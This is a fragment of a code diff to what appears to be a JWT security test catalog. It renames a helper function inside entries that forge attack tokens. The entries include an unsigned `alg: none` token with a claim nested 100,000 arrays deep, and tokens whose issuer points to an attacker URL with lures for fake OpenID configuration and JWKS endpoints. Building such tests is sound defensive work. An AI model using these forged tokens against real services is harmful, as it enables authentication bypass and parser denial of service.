-        { label: 'a claim 100 000 arrays deep, alg none', token: unsigned(merge(ctx.header(), { alg: 'none' }), jsonWith(ctx.claims(), `"deep":${nested(100_000)}`)) },
+        { label: 'a claim 100 000 arrays deep, alg none', token: unsigned(mergeMembers(ctx.header(), { alg: 'none' }), jsonWith(ctx.claims(), `"deep":${nested(100_000)}`)) },
       ]);
     },
   },
@@ -1369,8 +1360,8 @@ export const JWT_ATTACKS: readonly JwtAttack[] = [
       const foreign = ctx.attackerUrl;
       const lures = [`${foreign}/.well-known/openid-configuration`, `${foreign}/jwks`];
       return Promise.resolve([
-        { label: 'iss the attacker, kid of the real key', token: ctx.sign(merge(ctx.header(), { alg: rsa.alg, kid: ctx.signingKey.kid }), merge(ctx.claims(), { iss: foreign }), rsa, rsa.alg), lures },
-        { label: 'iss the attacker, the attacker\'s kid', token: ctx.sign(merge(ctx.header(), { alg: rsa.alg, kid: rsa.kid }), merge(ctx.claims(), { iss: foreign }), rsa, rsa.alg), lures },
+        { label: 'iss the attacker, kid of the real key', token: ctx.sign(mergeMembers(ctx.header(), { alg: rsa.alg, kid: ctx.signingKey.kid }), mergeMembers(ctx.claims(), { iss: foreign }), rsa, rsa.alg), lures },
+        { label: 'iss the attacker, the attacker\'s kid', token: ctx.sign(mergeMembers(ctx.header(), { alg: rsa.alg, kid: rsa.kid }), mergeMembers(ctx.claims(), { iss: foreign }), rsa, rsa.alg), lures },
       ]);
     },
   },
